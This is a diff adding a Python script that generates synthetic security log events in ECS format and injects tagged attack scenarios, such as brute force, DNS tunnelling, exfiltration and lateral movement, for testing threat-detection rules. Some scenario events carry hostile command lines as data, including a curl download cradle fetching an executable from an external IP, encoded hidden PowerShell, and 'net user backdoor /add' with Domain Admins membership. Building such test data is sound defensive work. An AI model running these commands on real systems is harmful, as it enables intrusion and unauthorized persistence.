@@ -0,0 +1,531 @@
+"""Synthetic ECS event generator with attack injection.
+
+Emits authentication, process, network, DNS and file events shaped like the
+Beats/Wazuh data the hunts search, spread evenly over a time window, as NDJSON
+or straight into the Elasticsearch bulk API. Attack scenarios matching the
+techniques in ``ThreatHunter.attack_patterns`` and the rules in
+``configs/alert-rules.yml`` are injected at seeded times; their events carry
+``tags: ["synthetic", "scenario:<name>"]`` so detections can be checked
+against ground truth.
+
+Output depends only on the seed, the event count and the window, so use an
+absolute window when runs must be comparable:
+
+    python benchmarks/ecs_events.py --events 1000000 --seed 7 \\
+        --time-range 2025-01-01T00:00:00Z/2025-01-01T01:00:00Z -o events.ndjson
+    python benchmarks/ecs_events.py --events 5000000 --time-range 1h \\
+        --bulk http://localhost:9200 --index 'synthetic-ecs-%Y.%m.%d'
+    python benchmarks/ecs_events.py --attacks brute_force=5,port_scan --events 0
+
+Chunks are generated in parallel worker processes (each seeded from the seed
+and its chunk number) and written in order. ``--index`` is formatted with
+each event's date, so daily indices follow the data; use
+``wazuh-alerts-%Y.%m.%d`` to land where the hunts' seed indices look.
+"""
+import argparse
+import heapq
+import json
+import os
+import sys
+import threading
+import time
+from concurrent.futures import FIRST_COMPLETED, ThreadPoolExecutor, wait
+from datetime import datetime, timezone
+from multiprocessing import Pool
+from random import Random
+
+import requests
+
+sys.path.append(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
+from soc_common import timerange
+
+CHUNK_EVENTS = 20000
+
+HOSTS = [f"ws-{i:04d}" for i in range(400)] + [f"srv-{name}-{i:02d}" for name in ('web', 'db', 'dc', 'file') for i in range(8)]
+USERS = [f"user{i:04d}" for i in range(2000)] + ['svc_backup', 'svc_web', 'svc_sql']
+PRIVILEGED_USERS = ['admin', 'administrator', 'root']
+INTERNAL_IPS = [f"10.{i // 250 % 8}.{i // 250}.{i % 250 + 1}" for i in range(4000)]
+EXTERNAL_IPS = [f"{a}.{b}.{c}.{d}" for a, b, c, d in (
+    (Random(i).choice((23, 34, 52, 104, 142, 151, 185, 203)), i % 251, i * 7 % 251, i * 13 % 250 + 1)
+    for i in range(2000)
+)]
+COUNTRIES = ['United States'] * 8 + ['Canada'] * 2
+DOMAINS = [
+    'google.com', 'microsoft.com', 'office365.com', 'github.com', 'slack.com', 'zoom.us',
+    'amazonaws.com', 'cloudflare.com', 'windowsupdate.com', 'okta.com', 'salesforce.com', 'example.com'
+]
+SUBDOMAINS = ['www', 'api', 'login', 'cdn', 'mail', 'static', 'update', 'files']
+PROCESSES = [
+    ('chrome.exe', 'explorer.exe', ['--type=renderer']),
+    ('outlook.exe', 'explorer.exe', []),
+    ('svchost.exe', 'services.exe', ['-k', 'netsvcs']),
+    ('cmd.exe', 'explorer.exe', ['/c', 'dir']),
+    ('powershell.exe', 'explorer.exe', ['-NoProfile', 'Get-ChildItem']),
+    ('python3', 'bash', ['manage.py', 'runserver']),
+    ('sshd', 'systemd', ['-D']),
+    ('bash', 'sshd', ['-l']),
+    ('java', 'systemd', ['-jar', 'app.jar']),
+    ('nginx', 'systemd', ['-g', 'daemon off;'])
+]
+FILES = [
+    ('C:\\Users\\{user}\\Documents\\report-{n}.docx', 'docx'),
+    ('C:\\Users\\{user}\\Downloads\\invoice-{n}.pdf', 'pdf'),
+    ('/var/log/app/app-{n}.log', 'log'),
+    ('/home/{user}/notes-{n}.txt', 'txt'),
+    ('/srv/data/export-{n}.csv', 'csv')
+]
+SERVICE_PORTS = [443] * 6 + [80] * 2 + [22, 3389, 445, 8080]
+PORT_PROTOCOLS = {443: 'https', 80: 'http', 8080: 'http', 22: 'ssh', 3389: 'rdp', 445: 'smb'}
+
+
+def _hex(rng, length):
+    return '%0*x' % (length, rng.getrandbits(length * 4))
+
+
+class _Clock:
+    """ISO timestamps from epoch milliseconds, formatting each second once"""
+
+    def __init__(self):
+        self.second = None
+        self.prefix = None
+
+    def __call__(self, ms):
+        second = ms // 1000
+        if second != self.second:
+            self.second = second
+            self.prefix = datetime.fromtimestamp(second, timezone.utc).strftime('%Y-%m-%dT%H:%M:%S')
+        return f"{self.prefix}.{ms % 1000:03d}Z"
+
+
+# Background event builders: (rng, timestamp) -> ECS document
+
+def authentication_event(rng, timestamp):
+    failed = rng.random() < 0.04
+    host = rng.choice(HOSTS)
+    return {
+        "@timestamp": timestamp,
+        "event": {
+            "kind": "event",
+            "category": "authentication",
+            "type": "start",
+            "action": "logon-failed" if failed else "logged-in",
+            "outcome": "failure" if failed else "success",
+            "dataset": "system.auth"
+        },
+        "host": {"name": host},
+        "user": {"name": rng.choice(USERS)},
+        "source": {"ip": rng.choice(INTERNAL_IPS), "geo": {"country_name": rng.choice(COUNTRIES)}},
+        "message": f"{'Failed' if failed else 'Accepted'} login on {host}"
+    }
+
+
+def process_event(rng, timestamp):
+    name, parent, args = rng.choice(PROCESSES)
+    return {
+        "@timestamp": timestamp,
+        "event": {"kind": "event", "category": "process", "type": "start", "dataset": "process"},
+        "host": {"name": rng.choice(HOSTS)},
+        "user": {"name": rng.choice(USERS)},
+        "process": {
+            "name": name,
+            "pid": rng.randint(300, 65000),
+            "args": [name] + args,
+            "command_line": ' '.join([name] + args),
+            "parent": {"name": parent}
+        }
+    }
+
+
+def network_event(rng, timestamp):
+    port = rng.choice(SERVICE_PORTS)
+    outbound = rng.random() < 0.7
+    return {
+        "@timestamp": timestamp,
+        "event": {"kind": "event", "category": "network", "type": "connection", "dataset": "network_traffic.flow"},
+        "host": {"name": rng.choice(HOSTS)},
+        "source": {"ip": rng.choice(INTERNAL_IPS), "port": rng.randint(1024, 65535)},
+        "destination": {"ip": rng.choice(EXTERNAL_IPS if outbound else INTERNAL_IPS), "port": port},
+        "network": {
+            "transport": "tcp",
+            "protocol": PORT_PROTOCOLS[port],
+            "direction": "outbound" if outbound else "internal",
+            "bytes": int(rng.lognormvariate(9, 2)) % 5000000
+        }
+    }
+
+
+def dns_event(rng, timestamp):
+    return {
+        "@timestamp": timestamp,
+        "event": {"kind": "event", "category": "network", "type": "protocol", "dataset": "network_traffic.dns"},
+        "host": {"name": rng.choice(HOSTS)},
+        "source": {"ip": rng.choice(INTERNAL_IPS)},
+        "destination": {"ip": "10.0.0.53", "port": 53},
+        "network": {"transport": "udp", "protocol": "dns", "direction": "outbound"},
+        "dns": {
+            "question": {"name": f"{rng.choice(SUBDOMAINS)}.{rng.choice(DOMAINS)}", "type": "A" if rng.random() < 0.8 else "AAAA"},
+            "response_code": "NOERROR"
+        }
+    }
+
+
+def file_event(rng, timestamp):
+    user = rng.choice(USERS)
+    template, extension = rng.choice(FILES)
+    path = template.format(user=user, n=rng.randint(1, 999))
+    return {
+        "@timestamp": timestamp,
+        "event": {"kind": "event", "category": "file", "type": "creation" if rng.random() < 0.5 else "change", "dataset": "fim"},
+        "host": {"name": rng.choice(HOSTS)},
+        "user": {"name": user},
+        "file": {
+            "path": path,
+            "name": path.replace('\\', '/').rsplit('/', 1)[-1],
+            "extension": extension,
+            "size": rng.randint(200, 5000000),
+            "hash": {"sha256": _hex(rng, 64)}
+        }
+    }
+
+
+# Cumulative weights of the background mix
+EVENT_MIX = [
+    (0.20, authentication_event),
+    (0.40, process_event),
+    (0.75, network_event),
+    (0.90, dns_event),
+    (1.00, file_event)
+]
+
+
+# Attack scenarios: (rng, start_ms) -> [(ms, document)], documents without @timestamp
+
+def _tagged(name, document):
+    document["tags"] = ["synthetic", f"scenario:{name}"]
+    return document
+
+
+def brute_force(rng, start):
+    """T1110 / "Multiple Failed Login Attempts": a burst of failures against one account, then a success"""
+    attacker, host, user = rng.choice(EXTERNAL_IPS), rng.choice(HOSTS), rng.choice(USERS)
+    attempts = rng.randint(40, 120)
+    events = []
+    for i in range(attempts + 1):
+        failed = i < attempts
+        events.append((start + i * 1500 + rng.randint(0, 500), _tagged('brute_force', {
+            "event": {"kind": "event", "category": "authentication", "type": "start",
+                      "action": "logon-failed" if failed else "logged-in",
+                      "outcome": "failure" if failed else "success", "dataset": "system.auth"},
+            "host": {"name": host},
+            "user": {"name": user},
+            "source": {"ip": attacker, "geo": {"country_name": "Russia"}},
+            "message": f"{'Failed' if failed else 'Accepted'} password for {user} from {attacker}"
+        })))
+    return events
+
+
+def privileged_login(rng, start):
+    """T1078 / "Privileged Account Login" and "Login from Suspicious Location" """
+    attacker = rng.choice(EXTERNAL_IPS)
+    return [
+        (start + i * 60000, _tagged('privileged_login', {
+            "event": {"kind": "event", "category": "authentication", "type": "start",
+                      "action": "logged-in", "outcome": "success", "dataset": "system.auth"},
+            "host": {"name": rng.choice(HOSTS[-32:])},
+            "user": {"name": rng.choice(PRIVILEGED_USERS)},
+            "source": {"ip": attacker, "geo": {"country_name": rng.choice(['Romania', 'Brazil', 'Vietnam'])}}
+        }))
+        for i in range(rng.randint(2, 5))
+    ]
+
+
+def port_scan(rng, start):
+    """T1046 / "Port Scanning Activity": hundreds of ports probed on one target within a minute"""
+    scanner, target = rng.choice(INTERNAL_IPS), rng.choice(INTERNAL_IPS)
+    ports = rng.sample(range(1, 10000), rng.randint(300, 1000))
+    return [
+        (start + i * 50000 // len(ports), _tagged('port_scan', {
+            "event": {"kind": "event", "category": "network", "type": "connection",
+                      "outcome": "failure", "dataset": "network_traffic.flow"},
+            "host": {"name": rng.choice(HOSTS)},
+            "source": {"ip": scanner, "port": rng.randint(40000, 65535)},
+            "destination": {"ip": target, "port": port},
+            "network": {"transport": "tcp", "direction": "internal", "bytes": 60}
+        }))
+        for i, port in enumerate(ports)
+    ]
+
+
+def dns_tunneling(rng, start):
+    """T1071.004 / "DNS Tunneling Detection": long encoded TXT lookups under one domain"""
+    host, source = rng.choice(HOSTS), rng.choice(INTERNAL_IPS)
+    domain = f"{_hex(rng, 6)}-cdn.net"
+    queries = rng.randint(60, 200)
+    return [
+        (start + i * 400, _tagged('dns_tunneling', {
+            "event": {"kind": "event", "category": "network", "type": "protocol", "dataset": "network_traffic.dns"},
+            "host": {"name": host},
+            "source": {"ip": source},
+            "destination": {"ip": "10.0.0.53", "port": 53},
+            "network": {"transport": "udp", "protocol": "dns", "direction": "outbound"},
+            "dns": {"question": {"name": f"{_hex(rng, 56)}.{i}.{domain}", "type": "TXT"}, "response_code": "NOERROR"}
+        }))
+        for i in range(queries)
+    ]
+
+
+def exfiltration(rng, start):
+    """T1041 / "Suspicious Outbound Traffic" and the data_exfiltration anomaly: large transfers out"""
+    host, source, destination = rng.choice(HOSTS), rng.choice(INTERNAL_IPS), rng.choice(EXTERNAL_IPS)
+    return [
+        (start + i * 120000, _tagged('exfiltration', {
+            "event": {"kind": "event", "category": "network", "type": "connection", "dataset": "network_traffic.flow"},
+            "host": {"name": host},
+            "source": {"ip": source, "port": rng.randint(1024, 65535)},
+            "destination": {"ip": destination, "port": 443},
+            "network": {"transport": "tcp", "protocol": "https", "direction": "outbound",
+                        "bytes": rng.randint(20, 400) * 1048576}
+        }))
+        for i in range(rng.randint(3, 8))
+    ]
+
+
+def _process(name, start, host, user, process, parent, args):
+    return (start, _tagged(name, {
+        "event": {"kind": "event", "category": "process", "type": "start", "dataset": "process"},
+        "host": {"name": host},
+        "user": {"name": user},
+        "process": {"name": process, "pid": 4000, "args": [process] + args,
+                    "command_line": ' '.join([process] + args), "parent": {"name": parent}}
+    }))
+
+
+def slow_exfiltration(rng, start):
+    """Slow-drip exfiltration: chunks kept under the 10MB single-event rule, every few minutes for hours"""
+    host, source, destination = rng.choice(HOSTS), rng.choice(INTERNAL_IPS), rng.choice(EXTERNAL_IPS)
+    events, at = [], start
+    for _ in range(rng.randint(30, 60)):
+        events.append((at, _tagged('slow_exfiltration', {
+            "event": {"kind": "event", "category": "network", "type": "connection", "dataset": "network_traffic.flow"},
+            "host": {"name": host},
+            "source": {"ip": source, "port": rng.randint(1024, 65535)},
+            "destination": {"ip": destination, "port": 443},
+            "network": {"transport": "tcp", "protocol": "https", "direction": "outbound",
+                        "bytes": rng.randint(6, 9) * 1048576}
+        })))
+        at += rng.randint(240000, 600000)
+    return events
+
+
+def encoded_powershell(rng, start):
+    """T1059 / "Suspicious Process Execution": encoded PowerShell and a download cradle"""
+    host, user = rng.choice(HOSTS), rng.choice(USERS)
+    return [
+        _process('encoded_powershell', start, host, user, 'powershell.exe', 'winword.exe',
+                 ['-NoP', '-W', 'Hidden', '-enc', _hex(rng, 120)]),
+        _process('encoded_powershell', start + 2000, host, user, 'cmd.exe', 'powershell.exe',
+                 ['/c', 'curl', '-o', 'C:\\Users\\Public\\a.exe', 'http://' + rng.choice(EXTERNAL_IPS) + '/a.exe'])
+    ]
+
+
+def privilege_escalation(rng, start):
+    """privilege_escalation anomaly: account and group changes via sudo/net"""
+    host, user = rng.choice(HOSTS), rng.choice(USERS)
+    return [
+        _process('privilege_escalation', start, host, user, 'bash', 'sshd', ['sudo', 'su', '-']),
+        _process('privilege_escalation', start + 5000, host, user, 'net.exe', 'cmd.exe',
+                 ['net user', 'backdoor', '/add']),
+        _process('privilege_escalation', start + 9000, host, user, 'net.exe', 'cmd.exe',
+                 ['net group', '"Domain Admins"', 'backdoor', '/add'])
+    ]
+
+
+def lateral_movement(rng, start):
+    """lateral_movement anomaly: remote execution fanning out from one host"""
+    host, user = rng.choice(HOSTS), rng.choice(USERS)
+    events = []
+    for i, target in enumerate(rng.sample(HOSTS, rng.randint(4, 12))):
+        timestamp, doc = _process('lateral_movement', start + i * 20000, host, user,
+                                  rng.choice(['psexec.exe', 'wmic.exe']), 'cmd.exe', [f"\\\\{target}", 'cmd.exe'])
+        doc["destination"] = {"address": target}
+        events.append((timestamp, doc))
+    return events
+
+
+def tool_transfer(rng, start):
+    """T1105 / "Known Malware Hash": tools dropped into a temp directory"""
+    host, user = rng.choice(HOSTS), rng.choice(USERS)
+    events = []
+    for i, (name, extension) in enumerate([('mimikatz', 'exe'), ('payload', 'dll'), ('stage', 'ps1')]):
+        path = f"C:\\Users\\{user}\\AppData\\Local\\Temp\\{name}.{extension}"
+        events.append((start + i * 3000, _tagged('tool_transfer', {
+            "event": {"kind": "event", "category": "file", "type": "creation", "dataset": "fim"},
+            "host": {"name": host},
+            "user": {"name": user},
+            "file": {"path": path, "name": f"{name}.{extension}", "extension": extension,
+                     "size": rng.randint(20000, 2000000),
+                     "hash": {"sha256": "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855" if i == 0 else _hex(rng, 64)}}
+        })))
+    return events
+
+
+SCENARIOS = {
+    'brute_force': brute_force,
+    'privileged_login': privileged_login,
+    'port_scan': port_scan,
+    'dns_tunneling': dns_tunneling,
+    'exfiltration': exfiltration,
+    'slow_exfiltration': slow_exfiltration,
+    'encoded_powershell': encoded_powershell,
+    'privilege_escalation': privilege_escalation,
+    'lateral_movement': lateral_movement,
+    'tool_transfer': tool_transfer
+}
+
+
+def parse_attacks(value):
+    """``all``, ``none`` or ``name[=count],...`` to {scenario: count}"""
+    if value == 'all':
+        return {name: 1 for name in SCENARIOS}
+    if value == 'none':
+        return {}
+    attacks = {}
+    for item in filter(None, (part.strip() for part in value.split(','))):
+        name, _, count = item.partition('=')
+        if name not in SCENARIOS:
+            raise ValueError(f"Unknown attack scenario: {name} (choose from {', '.join(SCENARIOS)})")
+        attacks[name] = int(count or 1)
+    return attacks
+
+
+def plan_attacks(attacks, seed, start_ms, end_ms):
+    """All injected events as a time-ordered list of (ms, document)"""
+    rng = Random(f"{seed}:attacks")
+    events = []
+    for name, count in attacks.items():
+        for _ in range(count):
+            # Leave room for the scenario to play out inside the window
+            at = rng.randint(start_ms, max(start_ms, end_ms - 20 * 60000))
+            events.extend((ms, document) for ms, document in SCENARIOS[name](rng, at) if ms <= end_ms)
+    events.sort(key=lambda event: event[0])
+    return events
+
+
+def generate_chunk(task):
+    """One chunk of NDJSON (or bulk body) bytes; runs in a worker process"""
+    seed, chunk, first, count, total, start_ms, span_ms, attacks, index = task
+    rng = Random(f"{seed}:{chunk}")
+    clock = _Clock()
+    dumps = json.JSONEncoder(separators=(',', ':')).encode
+
+    def background():
+        for position in range(first, first + count):
+            ms = start_ms + position * span_ms // total
+            pick = rng.random()
+            builder = next(build for weight, build in EVENT_MIX if pick < weight)
+            yield ms, builder(rng, clock(ms))
+
+    def injected():
+        for ms, document in attacks:
+            yield ms, dict({"@timestamp": clock(ms)}, **document)
+
+    lines = []
+    for ms, document in heapq.merge(background(), injected(), key=lambda event: event[0]):
+        if index:
+            name = datetime.fromtimestamp(ms // 1000, timezone.utc).strftime(index)
+            lines.append(f'{{"create":{{"_index":"{name}"}}}}')
+        lines.append(dumps(document))
+    return ('\n'.join(lines) + '\n').encode() if lines else b''
+
+
+def plan_chunks(args, window, attacks):
+    start_ms = int(window.start.timestamp() * 1000)
+    end_ms = int(window.end.timestamp() * 1000)
+    span_ms = end_ms - start_ms
+    total = max(args.events, 1)
+    chunks = max(1, -(-args.events // CHUNK_EVENTS))
+    for chunk in range(chunks):
+        first = chunk * CHUNK_EVENTS
+        count = max(0, min(CHUNK_EVENTS, args.events - first))
+        # Each chunk owns a slice of the window and the attacks inside it
+        chunk_start = start_ms + first * span_ms // total
+        chunk_end = end_ms + 1 if chunk == chunks - 1 else start_ms + (first + count) * span_ms // total
+        owned = [event for event in attacks if chunk_start <= event[0] < chunk_end]
+        yield (args.seed, chunk, first, count, total, start_ms, span_ms, owned, args.index if args.bulk else None)
+
+
+_sessions = threading.local()
+
+
+def _send_bulk(url, body):
+    session = getattr(_sessions, 'session', None)
+    if session is None:
+        session = _sessions.session = requests.Session()
+    response = session.post(url, data=body, headers={"Content-Type": "application/x-ndjson"}, timeout=120)
+    response.raise_for_status()
+    result = response.json()
+    if not result.get('errors'):
+        return 0
+    return sum(1 for item in result['items'] if next(iter(item.values())).get('error'))
+
+
+def main():
+    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
+    parser.add_argument('--events', type=int, default=1000000, help='background events to generate')
+    parser.add_argument('--time-range', default='1h', help='window the events span: 1h, 7d or start/end')
+    parser.add_argument('--seed', type=int, default=1)
+    parser.add_argument('--attacks', default='all', help="'all', 'none' or name[=count],... from: " + ', '.join(SCENARIOS))
+    parser.add_argument('-o', '--output', default='-', help='NDJSON file, - for stdout')
+    parser.add_argument('--bulk', metavar='URL', help='index into this Elasticsearch instead of writing NDJSON')
+    parser.add_argument('--index', default='synthetic-ecs-%Y.%m.%d', help='bulk target, strftime-formatted per event')
+    parser.add_argument('--pipeline', help='ingest pipeline for bulk indexing, e.g. soc-enrich')
+    parser.add_argument('--bulk-senders', type=int, default=4, help='concurrent bulk requests')
+    parser.add_argument('--workers', type=int, default=os.cpu_count(), help='generator processes')
+    args = parser.parse_args()
+
+    try:
+        window = timerange.parse(args.time_range)
+        attacks = plan_attacks(parse_attacks(args.attacks), args.seed,
+                               int(window.start.timestamp() * 1000), int(window.end.timestamp() * 1000))
+    except ValueError as e:
+        parser.error(str(e))
+
+    started = time.perf_counter()
+    written = failed = 0
+    with Pool(args.workers) as pool:
+        chunks = pool.imap(generate_chunk, plan_chunks(args, window, attacks))
+        if args.bulk:
+            url = f"{args.bulk.rstrip('/')}/_bulk"
+            if args.pipeline:
+                url += f"?pipeline={args.pipeline}"
+            pending = set()
+            with ThreadPoolExecutor(max_workers=args.bulk_senders) as senders:
+                for body in chunks:
+                    if not body:
+                        continue
+                    written += body.count(b'\n') // 2
+                    pending.add(senders.submit(_send_bulk, url, body))
+                    # Bound the bodies held in memory to what the senders can take
+                    if len(pending) >= args.bulk_senders * 2:
+                        done, pending = wait(pending, return_when=FIRST_COMPLETED)
+                        failed += sum(future.result() for future in done)
+                failed += sum(future.result() for future in wait(pending)[0])
+        else:
+            output = sys.stdout.buffer if args.output == '-' else open(args.output, 'wb')
+            try:
+                for body in chunks:
+                    written += body.count(b'\n')
+                    output.write(body)
+            finally:
+                if output is not sys.stdout.buffer:
+                    output.close()
+
+    elapsed = time.perf_counter() - started
+    print(f"{written} events ({len(attacks)} injected) in {elapsed:.1f}s, "
+          f"{written / elapsed * 60 / 1e6:.2f}M events/min"
+          + (f", {failed} rejected" if failed else ''), file=sys.stderr)
+    return 1 if failed else 0
+
+
+if __name__ == '__main__':
+    sys.exit(main())